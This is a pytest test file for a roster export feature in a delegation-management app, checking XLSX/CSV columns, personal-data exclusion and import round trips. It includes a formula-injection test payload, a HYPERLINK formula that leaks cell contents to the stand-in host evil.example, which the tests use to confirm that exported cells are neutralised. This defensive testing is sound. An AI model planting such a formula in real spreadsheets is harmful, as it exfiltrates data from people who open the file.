"""Exporting the roster to XLSX and CSV: the coordinator's columns, safe cells, the round trip."""

from __future__ import annotations

import csv
import dataclasses
import re
import shutil
import tempfile
import zipfile
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from delegation_app.cli import main
from delegation_app.errors import ValidationError
from delegation_app.interchange.roster_columns import (
    FIELDS,
    apply_overrides,
    guess_mapping,
)
from delegation_app.interchange.roster_export import export_columns, export_roster, neutralise
from delegation_app.interchange.roster_import import (
    ImportPlan,
    RowAction,
    apply_roster_import,
    plan_roster_import,
)
from delegation_app.interchange.tabular import read_table
from delegation_app.services.missions import StopInput, create_mission, resolve_mission_id
from delegation_app.services.people import create_organisation, create_person, update_person
from delegation_app.services.roster import (
    add_participant,
    create_group,
    list_roster,
    roster_records,
    update_participant,
)
from delegation_app.storage.database import Database, open_database
from delegation_app.storage.models import ParticipantRole, ParticipantStatus

MIAMI = StopInput(city="Miami", country="US", zone="America/New_York")
MISSION = "miami-2017"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'

FR_HEADERS = [
    "Identifiant", "Civilité", "Nom", "Prénom", "Société", "Fonction", "Qualité", "E-mail",
    "Téléphone", "Langue", "Langues parlées", "Rôle", "Statut", "Groupes", "Nationalité",
    "Hôtel", "Chambre", "Type de chambre", "Partage la chambre avec",
]  # fmt: skip
EN_HEADERS = [
    "Short name", "Title", "Last name", "First name", "Organisation", "Job title", "Capacity",
    "E-mail", "Phone", "Language", "Languages", "Role", "Status", "Groups", "Nationality",
    "Hotel", "Room", "Room type", "Room-mate",
]  # fmt: skip
FR_PERSONAL = [
    "Date de naissance", "N° passeport", "Pays de délivrance", "Date d'expiration",
    "Régime alimentaire", "Mobilité",
]  # fmt: skip


# --- the delegation ------------------------------------------------------------------------


def new_mission(db: Database, short: str = MISSION) -> int:
    with db.transaction() as session:
        return create_mission(
            session,
            title_fr="Mission économique à Miami",
            title_en="Economic mission to Miami",
            short=short,
            start_date=date(2017, 11, 5),
            end_date=date(2017, 11, 10),
            stops=[MIAMI],
        ).id


def build_delegation(db: Database, groups: Sequence[str] = ()) -> int:
    """The Miami mission with four delegates, their groups, and formula-like text in cells."""
    mission_id = new_mission(db)
    with db.transaction() as session:
        group = {
            name: create_group(session, mission_id, name).id
            for name in ("Délégation officielle", "Chefs d'entreprise", "Presse", *groups)
        }
        metropole = create_organisation(session, name="Métropole Aix-Marseille-Provence").id
        port = create_organisation(session, name="Port de Marseille Fos").id
        agency = create_organisation(session, name="Provence Promotion").id
        cite = create_organisation(session, name="+Cité des entreprises").id

        elodie = create_person(
            session, given_name="Élodie", family_name="Martin-Dupré", honorific="Mme",
            email="elodie.martin-dupre@ampmetropole.example", phone="+33491123456",
            organisation_id=metropole, job_title="Vice-présidente déléguée à l'économie",
            nationality="FR", birth_date=date(1975, 6, 30), passport_number="19CD54321",
            passport_country="FR", passport_expiry=date(2030, 6, 30),
            dietary_needs="Sans gluten", mobility_needs="Fauteuil roulant",
        ).id  # fmt: skip
        add_participant(
            session, mission_id=mission_id, person_id=elodie,
            role=ParticipantRole.ELECTED_OFFICIAL, status=ParticipantStatus.CONFIRMED,
            group_ids=[group["Délégation officielle"], *(group[g] for g in groups)],
            capacity="Première vice-présidente",
        )  # fmt: skip

        sean = create_person(
            session, given_name="Seán", family_name="O'Connor", honorific="M.",
            email="sean.oconnor@port-marseille.example", phone="+35312345678", language="en",
            organisation_id=port, job_title="Directeur du développement", nationality="IE",
            birth_date=date(1968, 11, 5), passport_number="PA1234567", passport_country="IE",
            passport_expiry=date(2029, 3, 15), dietary_needs="-sans porc",
        ).id  # fmt: skip
        add_participant(
            session, mission_id=mission_id, person_id=sean,
            role=ParticipantRole.BUSINESS_LEADER, status=ParticipantStatus.REGISTERED,
            group_ids=[group["Chefs d'entreprise"], group["Presse"]],
        )  # fmt: skip

        zoe = create_person(
            session, given_name="Zoë", family_name="Lefèvre", phone="+33612345678",
            organisation_id=agency, job_title=HYPERLINK,
        ).id  # fmt: skip
        add_participant(
            session, mission_id=mission_id, person_id=zoe, role=ParticipantRole.GUEST,
            status=ParticipantStatus.INVITED, group_ids=[group["Presse"]],
        )  # fmt: skip

        lukasz = create_person(
            session, given_name="Łukasz", family_name="Wiśniewski", language="en",
            email="lukasz.wisniewski@paih.example", organisation_id=cite,
            job_title="@SUM(A1:A3)", nationality="PL",
        ).id  # fmt: skip
        add_participant(
            session, mission_id=mission_id, person_id=lukasz, role=ParticipantRole.PRESS,
            status=ParticipantStatus.WAITLISTED, capacity="-2", language="fr",
        )  # fmt: skip
    return mission_id


@pytest.fixture
def mission_id(db: Database) -> int:
    return build_delegation(db)


def export(
    db: Database,
    mission_id: int,
    path: Path,
    *,
    language: str = "fr",
    include_personal: bool = False,
) -> int:
    with db.reading() as session:
        return export_roster(
            session, mission_id, path, language=language, include_personal=include_personal
        )


def xlsx_rows(path: Path) -> list[list[Any]]:
    workbook = load_workbook(path)
    try:
        sheet = workbook.active
        assert sheet is not None
        return [list(row) for row in sheet.iter_rows(values_only=True)]
    finally:
        workbook.close()


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def by_family_name(rows: list[list[Any]]) -> dict[str, dict[str, Any]]:
    headers = rows[0]
    family = 2
    return {row[family]: dict(zip(headers, row, strict=True)) for row in rows[1:]}


def records(db: Database, mission_id: int) -> list[dict[str, Any]]:
    with db.reading() as session:
        found = roster_records(session, mission_id, include_personal=True)
    return [dataclasses.asdict(r) for r in found]


def edit_delegate(
    db: Database, mission_id: int, family_name: str, capacity: str | None = None, **fields: Any
) -> None:
    """Change a delegate's person fields (and capacity on this mission), as the UI form does."""
    with db.transaction() as session:
        [entry] = [e for e in list_roster(session, mission_id) if e.family_name == family_name]
        if fields:
            update_person(session, entry.person_id, **fields)
        if capacity is not None:
            update_participant(session, entry.participant_id, capacity=capacity)


def plan_file(
    db: Database, path: Path, *, overrides: Sequence[str] = (), mission: str = MISSION
) -> ImportPlan:
    table = read_table(path)
    mapping = apply_overrides(table.headers, guess_mapping(table.headers), overrides)
    with db.reading() as session:
        return plan_roster_import(session, mission, table, mapping)


def import_file(
    db: Database, path: Path, *, overrides: Sequence[str] = (), mission: str = MISSION
) -> None:
    table = read_table(path)
    mapping = apply_overrides(table.headers, guess_mapping(table.headers), overrides)
    with db.transaction() as session:
        plan = plan_roster_import(session, mission, table, mapping)
        apply_roster_import(session, plan)


# --- columns and groups ---------------------------------------------------------------------


def test_xlsx_export_has_the_coordinators_columns_and_the_missions_groups(
    db: Database, mission_id: int, tmp_path: Path
) -> None:
    path = tmp_path / "roster.xlsx"
    assert export(db, mission_id, path) == 4
    rows = xlsx_rows(path)
    assert rows[0] == FR_HEADERS
    assert [row[2] for row in rows[1:]] == ["Lefèvre", "Martin-Dupré", "O'Connor", "Wiśniewski"]
    found = by_family_name(rows)
    assert found["Martin-Dupré"] == {
        "Identifiant": "emartindupre", "Civilité": "Mme", "Nom": "Martin-Dupré",
        "Prénom": "Élodie", "Société": "Métropole Aix-Marseille-Provence",
        "Fonction": "Vice-présidente déléguée à l'économie",
        "Qualité": "Première vice-présidente",
        "E-mail": "elodie.martin-dupre@ampmetropole.example", "Téléphone": "+33491123456",
        "Langue": "fr", "Langues parlées": None, "Rôle": "Élu", "Statut": "Confirmé",
        "Groupes": "Délégation officielle", "Nationalité": "FR", "Hôtel": None, "Chambre": None,
        "Type de chambre": None, "Partage la chambre avec": None,
    }  # fmt: skip
    assert found["O'Connor"]["Groupes"] == "Chefs d'entreprise; Presse"
    assert (found["O'Connor"]["Rôle"], found["O'Connor"]["Statut"]) == (
        "Chef d'entreprise",
        "Inscrit",
    )
    assert (found["Lefèvre"]["Rôle"], found["Lefèvre"]["Statut"]) == ("Invité", "Invité")
    assert found["Wiśniewski"]["Groupes"] is None
    assert found["Wiśniewski"]["Langue"] == "fr"  # the booklet language chosen for this mission
    assert found["Wiśniewski"]["Statut"] == "Liste d'attente"


def test_xlsx_export_in_english_uses_english_headers_and_labels(
    db: Database, mission_id: int, tmp_path: Path
) -> None:
    path = tmp_path / "roster.xlsx"
    export(db, mission_id, path, language="en")
    rows = xlsx_rows(path)
    assert rows[0] == EN_HEADERS
    found = by_family_name(rows)
    assert (found["Martin-Dupré"]["Role"], found["Martin-Dupré"]["Status"]) == (
        "Elected official",
        "Confirmed",
    )
    assert (found["Lefèvre"]["Role"], found["Lefèvre"]["Status"]) == ("Guest", "Invited")
    assert found["O'Connor"]["Groups"] == "Chefs d'entreprise; Presse"


def test_csv_export_is_what_french_excel_opens_without_a_question(
    db: Database, mission_id: int, tmp_path: Path
) -> None:
    path = tmp_path / "roster.csv"
    assert export(db, mission_id, path) == 4
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf" + ";".join(FR_HEADERS).encode("utf-8") + b"\r\n")
    assert data.count(b"\r\n") == 5
    rows = csv_rows(path)
    assert all(len(row) == len(FR_HEADERS) for row in rows)
    found = by_family_name(rows)
    assert found["O'Connor"]["Prénom"] == "Seán"
    assert found["O'Connor"]["Groupes"] == "Chefs d'entreprise; Presse"
    assert found["Wiśniewski"]["Prénom"] == "Łukasz"
    assert found["Wiśniewski"]["Groupes"] == ""


def test_the_cli_exports_the_roster(
    capsys: pytest.CaptureFixture[str], db: Database, db_path: Path, tmp_path: Path
) -> None:
    build_delegation(db)
    path = tmp_path / "sortie" / "roster.csv"
    code = main(
        ["roster", "export", "--db", str(db_path), "--mission", MISSION, "-o", str(path),
         "--lang", "en"]
    )  # fmt: skip
    out, err = capsys.readouterr()
    assert (code, err) == (0, "")
    assert out == f"4 delegates written to {path}\n"
    assert csv_rows(path)[0] == EN_HEADERS


def test_the_cli_refuses_an_output_that_is_not_xlsx_or_csv(
    capsys: pytest.CaptureFixture[str], db: Database, db_path: Path, tmp_path: Path
) -> None:
    build_delegation(db)
    path = tmp_path / "roster.pdf"
    code = main(["roster", "export", "--db", str(db_path), "--mission", MISSION, "-o", str(path)])
    _, err = capsys.readouterr()
    assert code == 1
    assert err == "delegation-cli: output: 'roster.pdf' must end in .xlsx or .csv\n"
    assert not path.exists()


def test_export_refuses_another_suffix_naming_the_output(
    db: Database, mission_id: int, tmp_path: Path
) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    with pytest.raises(ValidationError) as caught:
        export(db, mission_id, folder / "roster.ods")
    assert caught.value.field == "output"
    assert list(folder.iterdir()) == []


def test_export_replaces_a_file_and_leaves_no_temporary_file(
    db: Database, mission_id: int, tmp_path: Path
) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    path = folder / "roster.xlsx"
    path.write_bytes(b"an older export")
    export(db, mission_id, path)
    assert [p.name for p in folder.iterdir()] == ["roster.xlsx"]
    assert xlsx_rows(path)[0] == FR_HEADERS


# --- personal data --------------------------------------------------------------------------

PERSONAL_VALUES = ("19CD54321", "PA1234567", "Sans gluten", "Fauteuil roulant", "sans porc")


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_personal_data_is_left_out_unless_asked_for(
    db: Database, mission_id: int, tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"roster{suffix}"
    export(db, mission_id, path)
    rows = xlsx_rows(path) if suffix == ".xlsx" else csv_rows(path)
    assert rows[0] == FR_HEADERS
    cells = {str(cell) for row in rows for cell in row if cell is not None}
    for value in PERSONAL_VALUES:
        assert not any(value in cell for cell in cells), value
    assert not any(re.search(r"1975|1968|2030|2029", cell) for cell in cells)
    assert export_columns(False) == export_columns(True)[: len(FR_HEADERS)]


def test_xlsx_with_personal_data_has_real_date_cells(
    db: Database, mission_id: int, tmp_path: Path
) -> None:
    path = tmp_path / "roster.xlsx"
    export(db, mission_id, path, include_personal=True)
    workbook = load_workbook(path)
    sheet = workbook.active
    assert sheet is not None
    headers = [cell.value for cell in sheet[1]]
    assert headers == FR_HEADERS + FR_PERSONAL
    found = by_family_name([list(r) for r in sheet.iter_rows(values_only=True)])
    elodie = found["Martin-Dupré"]
    assert elodie["Date de naissance"] == datetime(1975, 6, 30)
    assert (elodie["N° passeport"], elodie["Pays de délivrance"]) == ("19CD54321", "FR")
    assert elodie["Date d'expiration"] == datetime(2030, 6, 30)
    assert (elodie["Régime alimentaire"], elodie["Mobilité"]) == ("Sans gluten", "Fauteuil roulant")
    elodie_row = next(r for r in sheet.iter_rows(min_row=2) if r[2].value == "Martin-Dupré")
    birth_cell = elodie_row[headers.index("Date de naissance")]
    assert birth_cell.is_date
    assert birth_cell.number_format == "DD/MM/YYYY"
    workbook.close()


def test_csv_with_personal_data_writes_day_first_dates(
    db: Database, mission_id: int, tmp_path: Path
) -> None:
    path = tmp_path / "roster.csv"
    export(db, mission_id, path, include_personal=True, language="en")
    rows = csv_rows(path)
    assert rows[0][-6:] == [
        "Date of birth", "Passport number", "Issuing country", "Passport expiry",
        "Dietary needs", "Mobility needs",
    ]  # fmt: skip
    oconnor = by_family_name(rows)["O'Connor"]
    assert oconnor["Date of birth"] == "05/11/1968"
    assert oconnor["Passport expiry"] == "15/03/2029"
    assert oconnor["Dietary needs"] == "'-sans porc"  # neutralised like every other cell
    assert oconnor["Mobility needs"] == ""


# --- formula injection ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("+33612345678", "'+33612345678"),
        ("-2", "'-2"),
        ("@SUM(A1:A3)", "'@SUM(A1:A3)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("O'Connor", "O'Connor"),
        ("Zoë", "Zoë"),
        ("Chef d'entreprise", "Chef d'entreprise"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_puts_an_apostrophe_before_formula_starts_only(text: str, expected: str) -> None:
    assert neutralise(text) == expected


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(
    db: Database, mission_id: int, tmp_path: Path
) -> None:
    path = tmp_path / "roster.csv"
    export(db, mission_id, path)
    found = by_family_name(csv_rows(path))
    assert found["Lefèvre"]["Fonction"] == "'" + HYPERLINK
    assert found["Lefèvre"]["Téléphone"] == "'+33612345678"
    assert found["Wiśniewski"]["Fonction"] == "'@SUM(A1:A3)"
    assert found["Wiśniewski"]["Qualité"] == "'-2"
    assert found["Wiśniewski"]["Société"] == "'+Cité des entreprises"
    assert found["O'Connor"]["Nom"] == "O'Connor"
    # No cell of the file starts with a formula character.
    for row in csv_rows(path):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_cells_holding_formula_like_text_are_strings_never_formulas(
    db: Database, mission_id: int, tmp_path: Path
) -> None:
    path = tmp_path / "roster.xlsx"
    export(db, mission_id, path)
    workbook = load_workbook(path)
    sheet = workbook.active
    assert sheet is not None
    cells = {str(c.value): c for row in sheet.iter_rows(min_row=2) for c in row if c.value}
    for text in (HYPERLINK, "@SUM(A1:A3)", "-2", "+Cité des entreprises", "+33612345678"):
        assert cells[text].data_type == "s", text
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    workbook.close()
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml


def test_xlsx_export_of_text_pasted_from_word_does_not_crash(
    db: Database, mission_id: int, tmp_path: Path
) -> None:
    # Word's manual line break is a vertical tab (U+000B); a CSV import keeps it.
    with db.transaction() as session:
        person = create_person(
            session, given_name="Inès", family_name="Benali", job_title="Directrice\x0bgénérale"
        )
        add_participant(
            session, mission_id=mission_id, person_id=person.id, role=ParticipantRole.GUEST
        )
    path = tmp_path / "roster.xlsx"
    assert export(db, mission_id, path) == 5
    job = by_family_name(xlsx_rows(path))["Benali"]["Fonction"]
    assert "Directrice" in job
    assert "générale" in job


# --- round trip -----------------------------------------------------------------------------

ROUND_TRIPS = [
    pytest.param(suffix, language, personal, id=f"{suffix[1:]}-{language}-{tag}")
    for suffix in (".csv", ".xlsx")
    for language in ("fr", "en")
    for personal, tag in ((False, "roster"), (True, "personal"))
]


@pytest.mark.parametrize(("suffix", "language", "include_personal"), ROUND_TRIPS)
def test_reimporting_an_export_into_the_same_mission_changes_nothing(
    db: Database,
    mission_id: int,
    tmp_path: Path,
    suffix: str,
    language: str,
    include_personal: bool,
) -> None:
    path = tmp_path / f"roster{suffix}"
    export(db, mission_id, path, language=language, include_personal=include_personal)
    before = records(db, mission_id)
    plan = plan_file(db, path)
    assert [r.describe() for r in plan.rows if r.changes or r.action != RowAction.UPDATE] == []
    assert (plan.new_groups, plan.new_organisations) == ((), ())
    assert all(r.describe().endswith("(nothing to change)") for r in plan.rows)
    import_file(db, path)
    assert records(db, mission_id) == before


def _without_short(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [
        {k: (set(v) if k == "groups" else v) for k, v in r.items() if k != "short"} for r in rows
    ]


@pytest.mark.parametrize(("suffix", "language"), [(".csv", "fr"), (".xlsx", "en")])
def test_reimporting_an_export_into_a_new_database_gives_the_same_people(
    db: Database, mission_id: int, tmp_path: Path, suffix: str, language: str
) -> None:
    # A coordinator hands the export to a colleague whose program has never seen these people.
    path = tmp_path / f"roster{suffix}"
    export(db, mission_id, path, language=language, include_personal=True)
    other = open_database(tmp_path / "autre.sqlite")
    try:
        new_id = new_mission(other, "miami-2017-bis")
        plan = plan_file(other, path, mission="miami-2017-bis")
        assert [r.describe() for r in plan.refused] == []
        import_file(other, path, mission="miami-2017-bis")
        assert _without_short(records(other, new_id)) == _without_short(records(db, mission_id))
    finally:
        other.close()


@pytest.mark.parametrize(("suffix", "language"), [(".csv", "fr"), (".xlsx", "en")])
def test_reimporting_into_a_new_database_without_short_names_keeps_every_field(
    db: Database, mission_id: int, tmp_path: Path, suffix: str, language: str
) -> None:
    path = tmp_path / f"roster{suffix}"
    export(db, mission_id, path, language=language, include_personal=True)
    short_header = FIELDS[0].label_fr if language == "fr" else FIELDS[0].label_en
    other = open_database(tmp_path / "autre.sqlite")
    try:
        new_id = new_mission(other, "miami-2017-bis")
        overrides = [f"{short_header}="]
        plan = plan_file(other, path, overrides=overrides, mission="miami-2017-bis")
        assert [r.action for r in plan.rows] == [RowAction.CREATE] * 4
        import_file(other, path, overrides=overrides, mission="miami-2017-bis")
        assert _without_short(records(other, new_id)) == _without_short(records(db, mission_id))
    finally:
        other.close()


@pytest.mark.parametrize("group", ["Élus / Officials", "Presse, radio et télévision"])
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_group_name_with_a_slash_or_a_comma_survives_the_round_trip(
    db: Database, tmp_path: Path, group: str, suffix: str
) -> None:
    mission_id = build_delegation(db, groups=[group])
    path = tmp_path / f"roster{suffix}"
    export(db, mission_id, path)
    plan = plan_file(db, path)
    assert plan.new_groups == ()
    assert [r.describe() for r in plan.rows if r.changes] == []


def test_text_starting_with_an_apostrophe_and_a_formula_sign_survives_the_csv_round_trip(
    db: Database, mission_id: int, tmp_path: Path
) -> None:
    edit_delegate(db, mission_id, "Lefèvre", job_title="'-) la cheffe", capacity="'+1 invitée")
    path = tmp_path / "roster.csv"
    export(db, mission_id, path)
    plan = plan_file(db, path)
    assert [r.describe() for r in plan.rows if r.changes] == []
    before = records(db, mission_id)
    import_file(db, path)
    assert records(db, mission_id) == before


# --- property: any text a delegate's fields hold survives export and re-import --------------

# Control characters cannot be written in XLSX (see the Word line-break test above) and a NUL
# makes a CSV binary; text starting with an apostrophe and a formula sign has its own test.
STORABLE_TEXT = (
    st.text(
        alphabet=st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters="\x85"),
        min_size=1,
        max_size=60,
    )
    .map(str.strip)
    .filter(lambda t: bool(t) and not re.match(r"'[=+\-@]", t))
)


@contextmanager
def _fresh_delegation(template: Path) -> Iterator[tuple[Database, Path]]:
    with tempfile.TemporaryDirectory() as directory:
        path = Path(directory) / "roster.sqlite"
        shutil.copyfile(template, path)
        database = open_database(path)
        try:
            yield database, Path(directory)
        finally:
            database.close()


@pytest.fixture(scope="module")
def delegation_template(empty_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("export") / "delegation.sqlite"
    shutil.copyfile(empty_template, path)
    database = open_database(path)
    try:
        build_delegation(database)
    finally:
        database.close()
    return path


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    job_title=STORABLE_TEXT,
    capacity=STORABLE_TEXT,
    dietary_needs=STORABLE_TEXT,
    suffix=st.sampled_from([".csv", ".xlsx"]),
)
def test_any_text_in_a_delegates_fields_survives_export_and_reimport(
    delegation_template: Path, job_title: str, capacity: str, dietary_needs: str, suffix: str
) -> None:
    with _fresh_delegation(delegation_template) as (database, directory):
        with database.reading() as session:
            mission_id = resolve_mission_id(session, MISSION)
        edit_delegate(
            database,
            mission_id,
            "Martin-Dupré",
            capacity=capacity,
            job_title=job_title,
            dietary_needs=dietary_needs,
        )
        before = records(database, mission_id)
        path = directory / f"roster{suffix}"
        export(database, mission_id, path, include_personal=True)
        plan = plan_file(database, path)
        assert [r.describe() for r in plan.rows if r.changes or r.action != RowAction.UPDATE] == []
        import_file(database, path)
        assert records(database, mission_id) == before
